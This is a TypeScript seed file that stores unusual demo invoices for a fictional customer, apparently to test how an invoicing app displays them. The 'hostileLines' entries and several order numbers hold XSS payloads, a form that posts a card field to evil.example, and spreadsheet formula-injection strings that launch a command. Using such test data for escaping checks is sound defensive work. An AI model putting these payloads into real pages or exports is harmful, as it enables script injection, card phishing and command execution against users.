import type { DatabaseSync } from "node:sqlite";
import { millisecondsInDay } from "date-fns/constants";
import { accounts, type DemoAccount } from "#provider/data/accounts.ts";
import { clientIds } from "#provider/data/people.ts";
import { callsPence } from "./call-records.ts";
import { line } from "./invoice-lines.ts";
import { larkfield } from "./issuing-companies.ts";
import { COMPLETED, DISPUTED, LIVE, ON_HOLD, storeInvoice, type NewInvoice } from "./store-invoice.ts";

/** Longer than any demo runs. */
const FOREVER_MS = 100 * 365 * millisecondsInDay;

interface RareInvoice extends Partial<Omit<NewInvoice, "cardPaymentPendingUntil">> {
  readonly orderNumber: string;
  readonly daysOld: number;
  readonly cardPaymentPendingMs?: number;
}

const hostileLines = [
  line(
    "XSS-1",
    `<script>document.title="owned"</script>Router<img src=x onerror="document.title='owned'">`,
    1,
    9900,
  ),
  line("XSS-2", `<a href="javascript:document.title='owned'">Licence</a> <b>and support</b>`, 2, 4500),
  line(
    "XSS-3",
    `<style>body{display:none}</style><svg onload="document.title='owned'"></svg>Cabling`,
    1,
    12000,
  ),
  line("XSS-4", `<form action="https://evil.example/"><input name="card"></form>=cmd|'/C calc'!A0`, 1, 3300),
];

const manyLines = Array.from({ length: 130 }, (_, index) =>
  line(`SITE-${String(index + 1).padStart(3, "0")}`, `Broadband at site ${index + 1}`, 1, 3650),
);

const routerLines = [line("RTR-BUS", "Business router", 1, 18900)];

/** Harbour & Pine Ltd's rare invoices (docs/scenarios.md). */
export const rareInvoices: readonly RareInvoice[] = [
  { orderNumber: "Being paid", daysOld: 12, status: LIVE, cardPaymentPendingMs: FOREVER_MS },
  { orderNumber: "Disputed charge", daysOld: 48, status: DISPUTED },
  { orderNumber: "Disputed delivery", daysOld: 130, status: DISPUTED },
  { orderNumber: "On hold: query", daysOld: 33, status: ON_HOLD },
  { orderNumber: "On hold: old", daysOld: 210, status: ON_HOLD },
  { orderNumber: "Part paid", daysOld: 64, status: LIVE, outstandingPence: 5680 },
  {
    orderNumber: "Credit note",
    daysOld: 40,
    status: COMPLETED,
    lines: [line("CREDIT", "Credit: returned <em>desk phone</em>", -1, 14900)],
  },
  {
    orderNumber: "Credit not used yet",
    daysOld: 20,
    status: LIVE,
    lines: [line("CREDIT", "Credit: service outage", -1, 3800)],
  },
  {
    orderNumber: "Nothing to pay",
    daysOld: 25,
    status: COMPLETED,
    lines: [line("TRIAL", "Free trial", 1, 0)],
  },
  {
    orderNumber: "Above the card limit",
    daysOld: 9,
    status: LIVE,
    lines: [line("NET-CORE", "Core network refresh", 1, 10_288_065)],
  },
  { orderNumber: "Long invoice", daysOld: 55, lines: manyLines, status: LIVE },
  { orderNumber: "Hostile lines", daysOld: 70, lines: hostileLines, status: COMPLETED },
  { orderNumber: "=cmd|'/C calc'!A0", daysOld: 71, status: COMPLETED },
  { orderNumber: "@SUM(1+1)*cmd|' /C calc'!A0", daysOld: 72, status: LIVE },
  { orderNumber: '<img src=x onerror="document.title=1">', daysOld: 73, status: LIVE },
  {
    orderNumber: "No files",
    daysOld: 80,
    status: COMPLETED,
    files: { pdf: false, calls: null, reports: false },
  },
  {
    orderNumber: "Truncated files",
    daysOld: 81,
    status: COMPLETED,
    files: { pdf: true, calls: 81, reports: true, fault: "truncated" },
    lines: [...routerLines, line("CALLS", "Call charges, as itemised in the calls file", 1, callsPence(81))],
  },
  {
    orderNumber: "Files that fail",
    daysOld: 82,
    status: COMPLETED,
    files: { pdf: true, calls: null, reports: false, fault: "failing" },
  },
];

/** Stores Harbour & Pine Ltd's rare invoices. */
export function storeRareInvoices(db: DatabaseSync, now: Date): void {
  const account = accounts.find(({ clientId }) => clientId === clientIds.harbourPine)!;
  const today = Math.floor(now.getTime() / millisecondsInDay) * millisecondsInDay;
  for (const [index, rare] of rareInvoices.entries()) {
    storeInvoice(db, { ...defaultInvoice(account, index), ...withDates(rare, today) });
  }
}

function defaultInvoice({ clientId, numbers, addresses }: DemoAccount, index: number) {
  return {
    invoiceNumber: 419_001 + index,
    clientId,
    accountNumber: numbers[index % numbers.length]!,
    status: COMPLETED,
    lines: routerLines,
    deliveryAddress: addresses[1]!,
    invoiceAddress: addresses[0]!,
    company: larkfield,
    files: { pdf: true, calls: null, reports: false },
  };
}

function withDates({ daysOld, cardPaymentPendingMs, ...rest }: RareInvoice, today: number) {
  const issuedAt = today - daysOld * millisecondsInDay;
  return {
    ...rest,
    issuedAt,
    ...(cardPaymentPendingMs === undefined ? {} : { cardPaymentPendingUntil: today + cardPaymentPendingMs }),
  };
}
